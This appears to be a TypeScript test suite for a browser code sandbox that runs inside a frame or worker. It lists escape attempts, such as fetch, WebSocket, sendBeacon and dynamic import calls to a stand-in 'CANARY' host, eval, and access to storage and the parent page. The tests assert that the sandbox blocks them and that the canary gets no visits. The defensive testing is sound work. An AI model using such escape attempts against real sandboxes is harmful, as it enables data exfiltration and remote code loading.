import { runCode } from '../support/desk.ts';
import { hostileWorker } from './forgery.ts';
import { expect, test } from './stage.ts';

/**
 * Code that stands directly in the worker, as if it had broken out of the virtual machine: what the next walls hold.
 * Each line is an expression that is true if it got somewhere; it runs once in the frame and once without.
 */
interface Way {
  readonly name: string;
  readonly attempt: string;
  /** True: only the frame holds it. Without the frame it gets through, which is why there is one. */
  readonly onlyFrameHolds: boolean;
}

const way = (name: string, attempt: string, onlyFrameHolds = false): Way => ({
  name,
  attempt,
  onlyFrameHolds,
});

const WAYS: readonly Way[] = [
  way('fetch', "(await fetch('http://CANARY/')).ok"),
  way('fetch without CORS', "!!(await fetch('http://CANARY/', { mode: 'no-cors' }))"),
  way(
    'XMLHttpRequest',
    `await new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(true);
    request.onerror = reject;
    request.open('GET', 'http://CANARY/');
    request.send();
  })`,
  ),
  way(
    'WebSocket',
    `await new Promise((resolve, reject) => {
    const socket = new WebSocket('ws://CANARY/');
    socket.onopen = () => resolve(true);
    socket.onerror = reject;
  })`,
  ),
  way(
    'EventSource',
    `await new Promise((resolve, reject) => {
    const events = new EventSource('http://CANARY/');
    events.onopen = () => resolve(true);
    events.onerror = () => { events.close(); reject(); };
  })`,
  ),
  way('importScripts', "importScripts('http://CANARY/x.js') === undefined"),
  way('import()', "!!(await import('http://CANARY/x.js'))"),
  way('sendBeacon', "'sendBeacon' in navigator && navigator.sendBeacon('http://CANARY/')"),
  way('eval', "(0, eval)('1') === 1"),
  way('Function', "new Function('return 1')() === 1"),
  way('window of the page', 'typeof window !== "undefined" || typeof parent !== "undefined"'),
  way('files of the page', '(await fetch(PAGE)).ok', true),
  way(
    'saves: indexedDB',
    `await new Promise((resolve, reject) => {
    const open = indexedDB.open('relay-quest');
    open.onsuccess = () => { open.result.close(); resolve(true); };
    open.onerror = reject;
  })`,
    true,
  ),
  way('caches', "!!(await caches.open('x'))", true),
  way('files of the origin', '!!(await navigator.storage.getDirectory())', true),
  way('locks', "!!(await navigator.locks.request('save', () => true))", true),
];

for (const kind of ['frame', 'worker'] as const) {
  test(`out of the machine, in the ${kind}`, async ({ stage }) => {
    const { page, canary } = stage;
    const answer = `const PAGE = ${JSON.stringify(page.url())};
const ways = { ${WAYS.map(
      ({ name, attempt }) => `${JSON.stringify(name)}: async () => ${attempt}`,
    ).join(',\n')} };
const got = [];
for (const [name, attempt] of Object.entries(ways)) {
  if (await attempt().catch(() => false)) got.push(name);
}
port.postMessage(genuine(data.runId, ...got));`;
    const script = hostileWorker(await runCode('1'), answer.replaceAll('CANARY', canary.address));
    expect(await stage.open({ script, isBare: kind === 'worker' })).toBe(kind);
    const { evidence } = await stage.run('1');
    const open = WAYS.filter(({ onlyFrameHolds }) => kind === 'worker' && onlyFrameHolds);
    expect(evidence.log.map(({ text }) => text)).toEqual(open.map(({ name }) => name));
    expect(canary.visits).toEqual([]);
  });

  test(`a broadcast out of the machine, in the ${kind}`, async ({ stage }) => {
    const answer = `try { new BroadcastChannel('game').postMessage('forged'); } catch {}
port.postMessage(genuine(data.runId, 'sent'));`;
    const script = hostileWorker(await runCode('1'), answer);
    await stage.open({ script, isBare: kind === 'worker' });
    await stage.takeForeign();
    await stage.run('1');
    if (kind === 'frame') expect(await broadcasts(stage)).toBe(0);
    // it arrives, but nothing in the page listens to such a channel
    else await expect.poll(() => broadcasts(stage)).toBe(1);
  });
}

async function broadcasts(stage: { takeForeign(): Promise<readonly { channel: string }[]> }) {
  return (await stage.takeForeign()).filter(({ channel }) => channel === 'broadcast').length;
}
